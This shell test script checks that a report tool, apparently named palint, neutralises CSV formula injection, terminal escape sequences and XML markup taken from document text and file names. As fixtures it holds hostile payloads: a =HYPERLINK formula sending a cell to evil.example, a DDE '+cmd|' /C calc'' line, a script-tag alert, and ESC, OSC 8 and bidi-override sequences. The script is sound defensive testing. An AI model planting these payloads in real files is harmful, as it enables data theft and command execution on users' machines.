#!/bin/sh
# untrusted.sh -- text from documents and file names cannot attack the
# reader of a report.  CSV: no cell that palint writes (coverage at every
# level, evidence, eval, merge) starts with = + - @ TAB or CR unless it is
# a plain number, each cell checked through the independent parser
# tests/csvdump; --csv-raw gives the bytes unchanged; merging safe shards
# gives one safe run byte for byte; LibreOffice Calc imports no formula
# (when soffice is installed).  Text and stderr: no ESC, BEL, C1 CSI or
# bidirectional override reaches them.  XML: markup is escaped and the
# report validates.
. "${top_srcdir:-$(dirname "$0")/..}/tests/setup.sh"

csvdump=$top_builddir/tests/csvdump
[ -x "$csvdump" ] || skip "tests/csvdump not built"

# Documents whose sentences start with each formula character, under
# names that do too; every sentence fires default rules.
docs=$tmp/docs
mkdir "$docs"
body() {
	printf '%s critical infrastructure must adopt cybersecurity standards.\n\n' \
	    '=HYPERLINK("http://evil.example/"&A1,"open")' \
	    "+cmd|' /C calc'!A0 and" '-2+3 and' '@SUM(1+1) and'
}
body >"$docs/=a.txt"
body >"$docs/@b.txt"
body >"$docs/+c.txt"
body >"$docs/-d.txt"
body >"$docs/(e.txt"
printf 'Plain critical infrastructure must adopt cybersecurity.\n' \
    >"$docs/f.txt"
names='=a.txt @b.txt +c.txt -d.txt (e.txt f.txt'

# scan OUT ARG...: palint in $docs on the names given as they are.
scan() {
	out=$1
	shift
	(cd "$docs" && $PALINT -q "$@" -- $names) >"$out" 2>"$tmp/err" ||
	    [ $? = 1 ] || { cat "$tmp/err" >&2; fail "scan $*: exit status"; }
}

# check_cells NAME FILE: every cell of FILE, as csvdump reads it, is safe:
# it does not start with = + - @ TAB or CR, or it is a plain number.
check_cells() {
	"$csvdump" "$2" >"$tmp/dump" || fail "$1: not valid CSV"
	awk -F'\t' '{
		for (i = 2; i < NF; i++)
			if ($i ~ /^([=+@-]|\\[tr])/ &&
			    $i !~ /^-?[0-9]+(\.[0-9]+)?$/) {
				print FILENAME ":" NR ": unsafe cell: " $i
				bad = 1
			}
	} END { exit bad }' "$tmp/dump" >&2 || fail "$1: a cell may run as a formula"
}

# want_cell NAME FILE TEXT: some cell of FILE starts with TEXT.
want_cell() {
	"$csvdump" "$2" | grep -qF "	$3" || fail "$1: no cell starting with $3"
}

for level in objective area document; do
	scan "$tmp/$level.csv" -f csv -l "$level"
	check_cells "$level" "$tmp/$level.csv"
	for n in "'=a.txt" "'@b.txt" "'+c.txt" "'-d.txt"; do
		want_cell "$level" "$tmp/$level.csv" "$n"
	done
done
scan "$tmp/cov.csv" -f csv -e "$tmp/ev.csv"
check_cells evidence "$tmp/ev.csv"
for s in "'=HYPERLINK(" "'+cmd|" "'-2+3 and" "'@SUM(1+1)"; do
	want_cell evidence "$tmp/ev.csv" "$s"
done

# --csv-raw: the same cells without the "'".
scan "$tmp/raw.csv" -f csv --csv-raw -e "$tmp/evraw.csv"
for f in cov ev; do
	r=raw
	[ "$f" = cov ] || r=evraw
	"$csvdump" "$tmp/$f.csv" |
	    sed "s/	'\([-=+@]\)/	\1/g" >"$tmp/unsafe.dump"
	"$csvdump" "$tmp/$r.csv" >"$tmp/raw.dump"
	cmp -s "$tmp/unsafe.dump" "$tmp/raw.dump" ||
	    fail "--csv-raw: $f cells differ from the safe ones but for the '"
done
want_cell csv-raw "$tmp/evraw.csv" '=HYPERLINK('

# Merge: safe shards give one safe run byte for byte, and so do raw shards
# merged safely; raw shards merged with --csv-raw give one raw run.  The
# shards split the names so that "(e.txt" sorts among "'"-led cells.
shard() {
	(cd "$docs" && $PALINT -q -f csv "$@") ||
	    [ $? = 1 ] || fail "shard $*: exit status"
}
for level in objective document; do
	for mode in safe raw; do
		opt=
		[ "$mode" = safe ] || opt=--csv-raw
		shard -l $level $opt -- =a.txt -d.txt f.txt >"$tmp/s1.csv"
		shard -l $level $opt -- @b.txt +c.txt "(e.txt" >"$tmp/s2.csv"
		shard -l $level $opt -- $names >"$tmp/one.csv"
		$PALINT merge $opt "$tmp/s2.csv" "$tmp/s1.csv" >"$tmp/merged.csv" ||
		    fail "merge $level $mode"
		cmp -s "$tmp/one.csv" "$tmp/merged.csv" ||
		    fail "merge $level $mode: not one run's bytes"
		[ "$mode" = raw ] || check_cells "merge $level" "$tmp/merged.csv"
	done
	$PALINT merge "$tmp/s2.csv" "$tmp/s1.csv" >"$tmp/merged.csv" ||
	    fail "merge $level raw shards"
	shard -l $level -- $names >"$tmp/one.csv"
	cmp -s "$tmp/one.csv" "$tmp/merged.csv" ||
	    fail "merge $level: raw shards not neutralised as one run"
done

# Eval with rated documents under formula names, rated against palint's
# scores so that some rho is negative: the numbers stay numbers.
fx=$top_srcdir/fixtures/eval
mkdir "$tmp/corpus"
cp "$fx/corpus/full.txt" "$tmp/corpus/=full.txt"
cp "$fx/corpus/cables.txt" "$tmp/corpus/@cables.txt"
cp "$fx/corpus/budget.txt" "$tmp/corpus/+budget.txt"
cp "$fx/corpus/localisation.txt" "$tmp/corpus/-localisation.txt"
printf 'doc\tAA1\tAA2\tP\n=full.txt\t0\t0\t0\n@cables.txt\t1\t3\t2\n+budget.txt\t3\t2\t3\n-localisation.txt\t2\t1\t1\n' \
    >"$tmp/ratings.tsv"
$PALINT eval -r "$fx/rules.xml" -f csv --documents "$tmp/ratings.tsv" \
    --corpus "$tmp/corpus" >"$tmp/eval.csv" 2>"$tmp/err" ||
    { cat "$tmp/err" >&2; fail "eval --documents: exit status"; }
check_cells eval-documents "$tmp/eval.csv"
want_cell eval-documents "$tmp/eval.csv" "'=full.txt"
"$csvdump" "$tmp/eval.csv" | grep -q '	-0\.[0-9]*	#7$' ||
    fail "eval --documents: no negative rho kept as a number"
# The text table of eval --documents shows a rated name that holds an
# escape, a C1 CSI and a bidi override cleaned, its columns still aligned.
evbad=$(printf 'esc\033[31m\302\233\342\200\256.txt')
cp "$fx/corpus/cables.txt" "$tmp/corpus/$evbad"
printf 'doc\tAA1\n%s\t1\n=full.txt\t0\n' "$evbad" >"$tmp/bad-ratings.tsv"
$PALINT eval -r "$fx/rules.xml" --documents "$tmp/bad-ratings.tsv" \
    --corpus "$tmp/corpus" >"$tmp/eval.txt" 2>"$tmp/err" ||
    { cat "$tmp/err" >&2; fail "eval --documents text: exit status"; }
! grep -q "$(printf '[\033\007\377]\|\302\233\|\342\200\256')" \
    "$tmp/eval.txt" "$tmp/err" || fail "eval --documents text: raw escape"
grep -q "^$(printf 'esc\357\277\275\\[31m\357\277\275\357\277\275')\\.txt  " \
    "$tmp/eval.txt" || fail "eval --documents text: cleaned name not shown"
grep -q '^=full\.txt       0   1\.000$' "$tmp/eval.txt" ||
    fail "eval --documents text: columns not aligned by characters"
$PALINT eval -r "$fx/rules.xml" -f csv "$fx/labels.tsv" >"$tmp/labels.csv" ||
    fail "eval labels: exit status"
check_cells eval-labels "$tmp/labels.csv"

# LibreOffice Calc: the safe CSV imports without a formula, the raw one
# with (which proves the check can see one).
soffice=$(command -v soffice || command -v libreoffice || true)
if [ -z "$soffice" ]; then
	echo "untrusted.sh: soffice not found; LibreOffice import not checked" \
	    "(Debian: apt-get install libreoffice-calc-nogui)" >&2
else
	lo() {
		HOME=$tmp/lohome "$soffice" --headless \
		    --infilter=CSV:44,34,76,1 --convert-to fods \
		    --outdir "$tmp/lo" "$1" >/dev/null 2>&1 ||
		    fail "soffice cannot convert $1"
	}
	mkdir -p "$tmp/lo" "$tmp/lohome"
	lo "$tmp/ev.csv"
	lo "$tmp/evraw.csv"
	! grep -q 'table:formula=' "$tmp/lo/ev.fods" ||
	    fail "LibreOffice reads a formula from the safe CSV"
	grep -q 'table:formula=' "$tmp/lo/evraw.fods" ||
	    fail "LibreOffice finds no formula even in the raw CSV"
fi

# Text and stderr: ESC [31m, BEL, an OSC 8 hyperlink, C1 CSI (C2 9B),
# U+202E and an invalid byte in a sentence and in file names.
bad=$(printf 'x\033[31mred\007\033]8;;http://e/\033\\\302\233\342\200\256\377')
name=$(printf '%s' "$bad" | tr -d /)
mkdir "$tmp/t"
printf 'The Ministry signed a memorandum of understanding with Huawei to build %s the national 5G core network.\n' \
    "$bad" >"$tmp/t/doc$name.txt"
(cd "$tmp/t" && $PALINT -f text "doc$name.txt" "gone$name.txt") \
    >"$tmp/text.out" 2>"$tmp/text.err" || true
grep -q 'conflict' "$tmp/text.out" || fail "text: no conflict quoted"
grep -q "gone" "$tmp/text.err" || fail "text: no message naming the missing file"
for f in text.out text.err; do
	od -An -tx1 -v "$tmp/$f" | tr -s ' \n' '\n\n' >"$tmp/bytes"
	for b in 1b 07 9b ff; do
		! grep -qx "$b" "$tmp/bytes" || fail "$f: raw byte 0x$b"
	done
	! grep -q "$(printf '\342\200\256')" "$tmp/$f" || fail "$f: raw U+202E"
done

# XML: markup in a sentence and in a file name comes out escaped, bidi and
# escapes do not come out at all, and the report validates.
cp "$tmp/t/doc$name.txt" "$tmp/t/<script>&$name.txt"
printf '<script>alert(1)</script> & critical infrastructure must adopt cybersecurity.\n' \
    >>"$tmp/t/<script>&$name.txt"
(cd "$tmp/t" && $PALINT -f xml -e "$tmp/ev.xml" "<script>&$name.txt") \
    >"$tmp/r.xml" 2>"$tmp/err" || [ $? = 1 ] || fail "xml: exit status"
for f in r.xml ev.xml; do
	validate_report "$tmp/$f"
	! grep -q '<script>' "$tmp/$f" || fail "$f: raw markup"
	grep -q '&lt;script&gt;&amp;' "$tmp/$f" || fail "$f: no escaped name"
	! grep -q "$(printf '[\033\007\377]\|\302\233\|\342\200\256')" "$tmp/$f" ||
	    fail "$f: raw control or bidi character"
done
grep -q '&lt;script&gt;alert(1)&lt;/script&gt; &amp;' "$tmp/ev.xml" ||
    fail "ev.xml: sentence markup not escaped"
exit 0
